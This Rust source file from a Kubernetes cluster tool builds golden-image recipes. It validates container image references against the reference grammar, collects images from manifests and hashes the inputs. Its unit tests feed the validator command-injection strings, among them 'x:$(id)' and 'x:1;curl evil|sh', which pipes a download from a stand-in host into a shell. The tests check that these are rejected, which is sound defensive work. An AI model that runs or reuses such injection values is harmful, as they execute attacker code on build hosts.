//! What a golden image holds, as data: the base AMI, the Kubernetes version, the rendered
//! `prepare-nodes` playbook and every container image the cluster pulls at bring-up (Calico's
//! and ArgoCD's, read from their pinned manifests; kubeadm's follow from the version). Its
//! [`Recipe::hash`] names the image: `up` uses a golden image only when the hash matches, so a
//! change of any input (a new base AMI, a containerd pin, a playbook step, a manifest) makes
//! the old image stale instead of silently wrong.

use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::config::{Config, Role};
use crate::playbook::{self, Playbook};

/// The node name the builder's playbook is rendered for (no step of `prepare-nodes` depends on
/// the node; the name only appears in logs).
pub const BUILDER: &str = "image-builder";
/// Bumped when what goes into an image changes in a way the inputs do not show.
const FORMAT: &str = "ecoboot-golden/1";

/// A container image reference read from a manifest (`registry/path:tag[@sha256:…]`), checked
/// against the reference grammar before it is put on a command line.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct ImageRef(String);

impl ImageRef {
    /// Parses `s`: lower-case name components separated by `/` (the first may be a registry
    /// host with a port), an optional tag, an optional sha256 digest; at most 255 characters.
    pub fn parse(s: &str) -> Result<ImageRef, String> {
        let bad = |why: &str| Err(format!("image `{}`: {why}", s.escape_debug()));
        if s.is_empty() || s.len() > 255 {
            return bad("empty or longer than 255 characters");
        }
        let (name_tag, digest) = match s.split_once('@') {
            Some((n, d)) => (n, Some(d)),
            None => (s, None),
        };
        if let Some(d) = digest {
            let hex = d.strip_prefix("sha256:").unwrap_or("");
            if hex.len() != 64 || !hex.bytes().all(|b| b.is_ascii_hexdigit()) {
                return bad("the digest is not sha256:<64 hex>");
            }
        }
        // The tag follows the last ':' after the last '/' (a registry port comes before a '/').
        let slash = name_tag.rfind('/').map_or(0, |i| i + 1);
        let (name, tag) = match name_tag[slash..].rfind(':') {
            Some(i) => (&name_tag[..slash + i], Some(&name_tag[slash + i + 1..])),
            None => (name_tag, None),
        };
        if let Some(t) = tag
            && (t.is_empty()
                || t.len() > 128
                || !t
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)))
        {
            return bad("the tag is not [A-Za-z0-9_.-]{1,128}");
        }
        for (i, part) in name.split('/').enumerate() {
            let host = i == 0 && name.contains('/') && (part.contains('.') || part.contains(':'));
            let ok = !part.is_empty()
                && part.bytes().all(|b| {
                    b.is_ascii_lowercase()
                        || b.is_ascii_digit()
                        || b"._-".contains(&b)
                        || (host && (b == b':' || b.is_ascii_uppercase()))
                });
            if !ok {
                return bad("a name component is not [a-z0-9._-]");
            }
        }
        if tag.is_none() && digest.is_none() {
            return bad("neither a tag nor a digest pins it");
        }
        Ok(ImageRef(s.to_string()))
    }

    /// The reference.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

/// Every container and init-container image in `docs` (parsed manifest documents), sorted and
/// without duplicates. A reference that is not an image reference is an error.
pub fn images_in(docs: &[Value]) -> Result<Vec<ImageRef>, String> {
    fn walk(v: &Value, out: &mut Vec<String>) {
        match v {
            Value::Object(map) => {
                for key in ["containers", "initContainers"] {
                    for c in map.get(key).and_then(Value::as_array).into_iter().flatten() {
                        if let Some(image) = c.get("image").and_then(Value::as_str) {
                            out.push(image.to_string());
                        }
                    }
                }
                map.values().for_each(|v| walk(v, out));
            }
            Value::Array(list) => list.iter().for_each(|v| walk(v, out)),
            _ => {}
        }
    }
    let mut raw = Vec::new();
    docs.iter().for_each(|d| walk(d, &mut raw));
    let mut out = raw
        .iter()
        .map(|s| ImageRef::parse(s))
        .collect::<Result<Vec<_>, _>>()?;
    out.sort();
    out.dedup();
    Ok(out)
}

/// Everything that goes into a golden image.
#[derive(Debug, Clone)]
pub struct Recipe {
    /// The base AMI it starts from.
    pub base_ami: String,
    /// `spec.kubernetes.version` (kubeadm's images follow from the installed kubeadm).
    pub kubernetes: String,
    /// The `prepare-nodes` playbook as rendered for the builder (names, guards, scripts).
    pub playbook: String,
    /// The container images pre-pulled besides kubeadm's (Calico, ArgoCD).
    pub images: Vec<ImageRef>,
}

impl Recipe {
    /// The recipe for `config` from `base_ami`, the prepare playbook and the manifests' images.
    pub fn new(config: &Config, base_ami: &str, book: &Playbook, images: Vec<ImageRef>) -> Recipe {
        let vals = playbook::values(config, BUILDER, Role::Worker);
        let mut text = String::new();
        for step in &book.steps {
            for part in [Some(&step.name), step.guard().as_ref(), Some(&step.run)] {
                text.push_str(&playbook::render(part.map_or("", |s| s), &vals));
                text.push('\n');
            }
        }
        Recipe {
            base_ami: base_ami.to_string(),
            kubernetes: config.cluster.spec.kubernetes.version.value.clone(),
            playbook: text,
            images,
        }
    }

    /// The content hash (sha256, hex) of everything above.
    pub fn hash(&self) -> String {
        let mut h = Sha256::new();
        for part in [FORMAT, &self.base_ami, &self.kubernetes, &self.playbook] {
            h.update((part.len() as u64).to_be_bytes());
            h.update(part.as_bytes());
        }
        for image in &self.images {
            h.update((image.0.len() as u64).to_be_bytes());
            h.update(image.0.as_bytes());
        }
        hex::encode(h.finalize())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn image_references_follow_the_grammar() {
        for ok in [
            "quay.io/calico/node:v3.32.1",
            "public.ecr.aws/docker/library/redis:8.2.3-alpine",
            "registry.local:5000/team/app:1.0",
            "nginx:1.27",
            &format!("ghcr.io/dexidp/dex@sha256:{}", "a".repeat(64)),
        ] {
            assert!(ImageRef::parse(ok).is_ok(), "{ok}");
        }
        for bad in [
            "quay.io/calico/node",
            "quay.io/calico/node:v1;reboot",
            "quay.io/Calico/node:v1",
            "x:$(id)",
            "a b:1",
            "",
            "quay.io//node:v1",
            &format!("x@sha256:{}", "z".repeat(64)),
        ] {
            assert!(ImageRef::parse(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn images_are_read_from_containers_and_init_containers() {
        let doc = serde_json::json!({"kind": "DaemonSet", "spec": {"template": {"spec": {
            "initContainers": [{"name": "cni", "image": "quay.io/calico/cni:v3.32.1"}],
            "containers": [{"name": "node", "image": "quay.io/calico/node:v3.32.1"},
                           {"name": "again", "image": "quay.io/calico/cni:v3.32.1"}]}}}});
        let got = images_in(&[doc]).unwrap();
        let names: Vec<&str> = got.iter().map(ImageRef::as_str).collect();
        assert_eq!(
            names,
            ["quay.io/calico/cni:v3.32.1", "quay.io/calico/node:v3.32.1"]
        );
        let hostile = serde_json::json!({"spec": {"containers": [{"image": "x:1;curl evil|sh"}]}});
        assert!(images_in(&[hostile]).is_err());
    }

    #[test]
    fn the_hash_changes_with_every_input() {
        let config = crate::config::tests_support::config();
        let book = Playbook::load("prepare-nodes", None).unwrap();
        let img = |s: &str| ImageRef::parse(s).unwrap();
        let base = Recipe::new(&config, "ami-1", &book, vec![img("a.io/x:1")]);
        let same = Recipe::new(&config, "ami-1", &book, vec![img("a.io/x:1")]);
        assert_eq!(base.hash(), same.hash());
        let mut other_ami = base.clone();
        other_ami.base_ami = "ami-2".into();
        let mut other_images = base.clone();
        other_images.images.push(img("a.io/y:1"));
        let mut other_book = book.clone();
        other_book.steps.pop();
        let fewer_steps = Recipe::new(&config, "ami-1", &other_book, base.images.clone());
        for changed in [other_ami, other_images, fewer_steps] {
            assert_ne!(changed.hash(), base.hash());
        }
    }
}
